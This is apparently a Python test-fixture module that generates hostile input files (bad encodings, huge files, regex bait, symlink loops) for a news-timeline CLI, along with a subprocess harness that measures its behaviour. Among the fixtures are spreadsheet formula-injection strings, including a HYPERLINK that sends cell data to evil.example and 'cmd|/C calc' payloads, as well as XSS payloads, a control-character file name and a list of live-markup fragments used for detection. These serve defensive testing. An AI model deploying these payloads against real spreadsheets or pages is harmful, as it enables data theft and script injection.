"""A corpus of hostile inputs, generated on the fly (nothing binary is stored in the repository).

Every case is a file the product may meet on the open web or in an analyst's downloads folder:
empty or binary files, odd encodings, huge files, regex-backtracking bait, live HTML, spreadsheet
formulas in names, malformed records, impossible dates and a directory with a symlink loop.
`expect` says what the product owes for it: "events" (at least one event from the file),
"error" (a one-line `error: PATH: reason`), "events+error" (good records still come through
and the bad ones are reported) or "any" (events, nothing or an error, but never a crash).
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import signal
import struct
import subprocess
import sys
import threading
import zlib
from dataclasses import dataclass
from pathlib import Path

PUBLISHED = "2020-01-10"
"""Reference date passed to the command line for the whole corpus."""

EVENT_STRIKE = (
    "On 3 January 2020, a United States drone strike killed Iranian general Qasem Soleimani "
    "near Baghdad International Airport."
)
EVENT_MISSILES = "On 8 January 2020, Iran launched a missile strike on the Ain al-Asad air base in Iraq."
EVENT_ACCENTED = (
    "On 6 January 2020, Iraqi Prime Minister Adil Abdul-Mahdi met the French ambassador at the Café Riche in Baghdad."
)
ARTICLE = f"{EVENT_STRIKE}\n\n{EVENT_MISSILES}\n\n{EVENT_ACCENTED}\n"

FORMULAS = (
    '=HYPERLINK("http://evil.example/steal?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
)
"""Cells a spreadsheet would run as formulas if written verbatim."""

MARKUP_NAMES = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(document.cookie)</script>",
    '<a href="javascript:alert(1)">Hassan Rouhani</a>',
)
"""Names that a careless page would render as live HTML."""

LIVE_MARKUP = ("<script", "onerror", "onload", "onmouseover", "javascript:", "alert(", "document.cookie", "<iframe")
"""Fragments that must never come out of an HTML input into any output cell."""

FILLER = "The river was calm and the bakery on the corner sold bread and olives to the neighbours."


@dataclass(frozen=True)
class HostileFile:
    """One hostile input file: where it goes under the corpus root, its bytes, and what the product owes."""

    relpath: str
    data: bytes
    expect: str
    note: str


def _png() -> bytes:
    """A valid 1x1 PNG image."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")
    )


def _scripted_html() -> bytes:
    return f"""<!doctype html>
<html><head><title>Strike near Baghdad</title>
<script>document.write("<p>SCRIPTONLY On 1 January 2020 a drone strike killed a general.</p>")</script>
<style>body {{ background: url("javascript:alert(1)") }}</style>
<meta http-equiv="refresh" content="0; url=javascript:alert(1)">
</head>
<body onload="alert('body')">
<article>
<h1 onmouseover="alert(1)">Strike near Baghdad</h1>
<p onclick="alert(2)">{EVENT_STRIKE} <img src=x onerror=alert(1)></p>
<p>Officials said <a href="javascript:alert(document.cookie)">the statement</a> was issued later.</p>
<svg onload=alert(3)><circle r="1"/></svg>
<iframe src="javascript:alert(4)"></iframe>
<p>{EVENT_MISSILES}</p>
<noscript><p>NOSCRIPT fallback</p></noscript>
</article>
<script src="http://127.0.0.1:9/tracker.js"></script>
</body></html>
""".encode()


def _formula_records() -> list[object]:
    records: list[object] = []
    for i, formula in enumerate(FORMULAS + MARKUP_NAMES):
        records.append(
            {
                "title": formula,
                "text": f"{formula} said on 5 January 2020 that {formula} met Hassan Rouhani. {EVENT_MISSILES}",
                "published": "2020-01-09",
                "url": "javascript:alert(1)" if i % 2 else f"https://news.example/{i}",
            }
        )
    return records


def _wrong_type_records() -> list[object]:
    return [
        {"text": 12345},
        {"text": None, "title": "no text"},
        {"text": ["a", "list"]},
        {"text": {"nested": EVENT_STRIKE}},
        {"text": EVENT_STRIKE, "published": ["2020-01-05"]},
        {"text": EVENT_MISSILES, "title": {"a": 1}, "url": 7},
        {"text": EVENT_ACCENTED, "published": "2020-02-30"},
        {"text": EVENT_MISSILES, "published": "99999-01-01"},
        {"text": EVENT_STRIKE, "published": 1e308},
        "a bare string record",
        3.5,
        None,
        [],
    ]


def _bad_jsonl() -> bytes:
    good = json.dumps({"text": EVENT_STRIKE, "published": "2020-01-04"})
    lines = [
        good,
        "{not json",
        "[1, 2",
        "42",
        json.dumps({"text": 5}),
        json.dumps({"text": EVENT_MISSILES, "published": "2020-01-09"}),
        "\x00\x01\x02 garbage",
        "",
        json.dumps({"text": EVENT_ACCENTED}),
    ]
    return ("\n".join(lines) + "\n").encode() + b"\xff\xfe\xfa not utf-8\n"


def _bad_csv() -> bytes:
    return (
        "text,title,published,url\n"
        f'"{EVENT_STRIKE}",ok,2020-01-04,https://news.example/a\n'
        f'"{EVENT_MISSILES}",too,many,columns,here,and,more\n'
        '"only text, no other columns"\n'
        f'"{EVENT_ACCENTED}",wrong date,[1,2],javascript:alert(1)\n'
        "\x00nul,in,the,row\n"
        '"an unclosed quote swallows the rest\n'
        "of the file,x,y,z\n"
    ).encode()


def _huge_field_csv() -> bytes:
    body = " ".join([FILLER] * 3500)  # about 300 KB: beyond csv's default field size limit of 128 KB
    return f'text,title\n"{EVENT_STRIKE} {body} {EVENT_MISSILES}",long\n'.encode()


def small_cases() -> list[HostileFile]:
    """Hostile files that are cheap to process; one CLI batch runs them all."""
    rng = random.Random(8)
    utf16_csv = f'text,published\n"{ARTICLE.strip()}",2020-01-09\n'.encode("utf-16")
    return [
        HostileFile("h01_empty.txt", b"", "any", "empty file"),
        HostileFile("h02_whitespace.txt", b"  \n\t\n \r\n\x0b\x0c \xc2\xa0\n", "any", "whitespace only"),
        HostileFile("h03_empty.json", b"", "any", "empty JSON file"),
        HostileFile("h04_empty.html", b"", "any", "empty HTML file"),
        HostileFile("h05_header_only.csv", b"text,title,published,url\n", "any", "CSV with only a header"),
        HostileFile("h06_random.txt", rng.randbytes(64 * 1024), "any", "random binary named .txt"),
        HostileFile("h07_image.html", _png(), "any", "a PNG image named .html"),
        HostileFile("h08_nul.txt", (EVENT_STRIKE + "\x00" * 64 + EVENT_MISSILES).encode(), "any", "NUL bytes in text"),
        HostileFile("h10_latin1.txt", ARTICLE.encode("latin-1"), "events", "Latin-1"),
        HostileFile("h11_cp1252.txt", ("\u201cQuoted\u201d: " + ARTICLE).encode("cp1252"), "events", "Windows-1252"),
        HostileFile("h12_utf16le_bom.txt", ARTICLE.encode("utf-16"), "events", "UTF-16 with BOM"),
        HostileFile("h13_utf16be_bom.txt", b"\xfe\xff" + ARTICLE.encode("utf-16-be"), "events", "UTF-16 BE with BOM"),
        HostileFile("h14_utf8_bom.txt", ARTICLE.encode("utf-8-sig"), "events", "UTF-8 with BOM"),
        HostileFile(
            "h15_utf8_bom.json",
            json.dumps({"text": ARTICLE, "published": "2020-01-09"}).encode("utf-8-sig"),
            "events",
            "JSON with a UTF-8 BOM",
        ),
        HostileFile("h16_utf16.csv", utf16_csv, "events", "CSV saved as UTF-16 (a spreadsheet's 'Unicode text')"),
        HostileFile("h20_scripts.html", _scripted_html(), "events", "scripts, event handlers, javascript: links"),
        HostileFile(
            "h21_markup.md",
            (f"# Report\n\n[click](javascript:alert(1)) <script>alert(1)</script>\n\n{EVENT_STRIKE}\n").encode(),
            "events",
            "Markdown with live markup",
        ),
        HostileFile(
            "h22_formulas.json", json.dumps(_formula_records()).encode(), "events", "formulas and markup as names"
        ),
        HostileFile(
            "h23_markup_names.txt",
            "\n\n".join(f"On 5 January 2020, {name} met Hassan Rouhani in Tehran." for name in MARKUP_NAMES).encode(),
            "any",
            "actor names carrying HTML, in plain text",
        ),
        HostileFile("h30_truncated.json", f'{{"text": "{EVENT_STRIKE}'.encode(), "error", "truncated JSON"),
        HostileFile("h31_number.json", b"42", "any", "JSON that is a bare number"),
        HostileFile("h32_deep.json", b"[" * 200_000 + b"]" * 200_000, "any", "JSON nested 200,000 deep"),
        HostileFile("h33_wrong_types.json", json.dumps(_wrong_type_records()).encode(), "events", "wrong field types"),
        HostileFile("h34_bad.jsonl", _bad_jsonl(), "events+error", "JSONL with bad lines among good"),
        HostileFile("h35_no_text_column.csv", b"foo,bar\n1,2\n", "error", "CSV without a text column"),
        HostileFile("h36_bad.csv", _bad_csv(), "events", "CSV with ragged rows, NULs and an unclosed quote"),
        HostileFile("h37_huge_field.csv", _huge_field_csv(), "events", "CSV field above csv's default limit"),
        HostileFile("h38_bad_utf8.json", b'{"text": "\xff\xfe\xfd broken \xc3\x28"}', "any", "invalid UTF-8 in JSON"),
        HostileFile(
            "h40_impossible_dates.txt",
            (
                "On February 30th, 2020, Iranian forces launched a missile strike on the Ain al-Asad air base. "
                "In the year 99999 the ministry will visit Mars. On 31/31/2020 troops stormed the embassy. "
                "On 2020-13-45 an air strike hit Mosul. On 0000-00-00 nothing happened. "
                "On 29 February 2019 a drone strike hit Basra. On 32 January 2020 rockets struck Erbil.\n\n"
                f"{EVENT_MISSILES}\n"
            ).encode(),
            "events",
            "impossible dates",
        ),
        HostileFile(
            "h41_ctrl\x1b[31mred\nINJECTED.json",
            b"{ not json",
            "error",
            "control characters and a newline in the file name",
        ),
    ]


def _regex_bait(unit: str, repeats: int) -> bytes:
    return f"{unit * repeats}\n\n{EVENT_MISSILES}\n".encode()


def big_cases() -> list[HostileFile]:
    """Hostile files that are expensive by design (size, backtracking bait, thousands of dates)."""
    rng = random.Random(5)
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789/-.:"
    no_space_line = "".join(rng.choices(alphabet, k=5 * 1024 * 1024))
    filler = ((FILLER + " ") * 8 + "\n\n") * (20 * 1024 * 1024 // ((len(FILLER) + 1) * 8 + 2))
    months = ("January", "February", "March", "April", "May", "June", "July", "August", "September", "October")
    dated = []
    for i in range(5000):
        day, month, year = 1 + i % 28, months[i // 28 % 10], 2000 + i // 280
        if i % 500 == 0:
            dated.append(
                f"On {day} {month} {year}, Iranian forces launched a missile strike on the Ain al-Asad air base."
            )
        else:
            dated.append(f"On {day} {month} {year}, the ministry published bulletin number {i}.")
    return [
        HostileFile("b01_20mb.txt", f"{EVENT_STRIKE}\n\n{filler}{EVENT_MISSILES}\n".encode(), "events", "20 MB"),
        HostileFile("b02_5mb_line.txt", no_space_line.encode(), "any", "a 5 MB line without spaces"),
        HostileFile("b03_slashes.txt", _regex_bait("1/", 200_000), "events", "1/1/1/1/..."),
        HostileFile("b04_years.txt", _regex_bait("2020-", 100_000), "events", "2020-2020-..."),
        HostileFile("b05_may.txt", _regex_bait("May may ", 40_000), "events", "tens of thousands of 'May may'"),
        HostileFile("b06_digits.txt", _regex_bait("1 ", 200_000), "events", "digits and spaces"),
        HostileFile("b07_colons.txt", _regex_bait("12:", 150_000), "events", "12:12:12:..."),
        HostileFile("b08_5000_dates.txt", "\n\n".join(dated).encode(), "events", "5,000 date expressions"),
    ]


def write_cases(root: Path, cases: list[HostileFile]) -> dict[str, HostileFile]:
    """Write the cases under `root`; returns path string -> case."""
    written: dict[str, HostileFile] = {}
    for case in cases:
        path = root / case.relpath
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(case.data)
        written[str(path)] = case
    return written


def write_symlink_loop(root: Path) -> Path:
    """A directory holding one article, a symlink to itself, a loop two levels deep and a dangling link."""
    loop_dir = root / "h50_loop"
    (loop_dir / "nested").mkdir(parents=True)
    (loop_dir / "h50_loop_article.txt").write_text(ARTICLE, encoding="utf-8")
    os.symlink(".", loop_dir / "self")
    os.symlink("../..", loop_dir / "nested" / "back")
    os.symlink("no_such_file.txt", loop_dir / "h51_dangling.txt")
    return loop_dir


ROOT = Path(__file__).resolve().parent.parent


@dataclass(frozen=True)
class CliRun:
    """What one run of `python -m timeline` did: exit status, output streams and peak memory."""

    returncode: int
    stdout: str
    stderr: str
    peak_rss_bytes: int


class RunningCli:
    """The real command line running in a child process; `finish()` waits and measures its own peak memory.

    Output streams are drained by threads (pipes, not files, so a file-size limit on the child
    does not touch them); `stdout_path` sends standard output to that file instead (e.g. /dev/full);
    `file_size_limit` caps the size of files the child may write (RLIMIT_FSIZE), simulating a full disk.
    """

    def __init__(self, args: list[str], *, stdout_path: str | None = None, file_size_limit: int = 0) -> None:
        def limit_file_size() -> None:
            import resource

            resource.setrlimit(resource.RLIMIT_FSIZE, (file_size_limit, file_size_limit))

        self.args = args
        self._stdout_file = open(stdout_path, "wb") if stdout_path else None  # noqa: SIM115 - closed in finish()
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "timeline", *args],
            cwd=ROOT,
            stdin=subprocess.DEVNULL,
            stdout=self._stdout_file or subprocess.PIPE,
            stderr=subprocess.PIPE,
            env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1", "PYTHONPATH": str(ROOT)},
            preexec_fn=limit_file_size if file_size_limit else None,
        )
        self._chunks: dict[str, list[bytes]] = {"stdout": [], "stderr": []}
        self._readers = [self._drain(name) for name in ("stdout", "stderr") if getattr(self.proc, name)]

    def _drain(self, name: str) -> threading.Thread:
        stream = getattr(self.proc, name)
        reader = threading.Thread(target=lambda: self._chunks[name].extend(iter(lambda: stream.read(65536), b"")))
        reader.start()
        return reader

    def open_files(self) -> list[str]:
        """Paths of the regular files the child has open right now (empty once it has ended)."""
        fd_dir = Path(f"/proc/{self.proc.pid}/fd")
        paths = []
        try:
            for fd in fd_dir.iterdir():
                try:
                    paths.append(os.readlink(fd))
                except OSError:
                    continue
        except OSError:
            return []
        return paths

    def kill(self) -> CliRun:
        """Kill the child at once (SIGKILL, as a crash or power cut would) and collect what it did."""
        with contextlib.suppress(ProcessLookupError):
            os.kill(self.proc.pid, signal.SIGKILL)
        return self.finish(expect_kill=True)

    def finish(self, timeout: float = 300.0, *, expect_kill: bool = False) -> CliRun:
        """Wait for the child (killing it after `timeout` seconds) and collect what it did."""
        timer = threading.Timer(timeout, lambda: os.kill(self.proc.pid, signal.SIGKILL))
        timer.start()
        try:
            _, status, usage = os.wait4(self.proc.pid, 0)
        finally:
            timer.cancel()
        self.proc.returncode = os.waitstatus_to_exitcode(status)
        for reader in self._readers:
            reader.join()
        if self._stdout_file:
            self._stdout_file.close()
        stdout, stderr = (b"".join(self._chunks[n]).decode("utf-8", "replace") for n in ("stdout", "stderr"))
        if self.proc.returncode == -signal.SIGKILL and not expect_kill:
            raise AssertionError(f"timed out after {timeout:.0f} s: {self.args}\n{stderr[-2000:]}")
        return CliRun(self.proc.returncode, stdout, stderr, usage.ru_maxrss * 1024)


def run_cli(
    args: list[str], *, timeout: float = 300.0, stdout_path: str | None = None, file_size_limit: int = 0
) -> CliRun:
    """Run `python -m timeline ARGS` to the end; see RunningCli."""
    return RunningCli(args, stdout_path=stdout_path, file_size_limit=file_size_limit).finish(timeout)
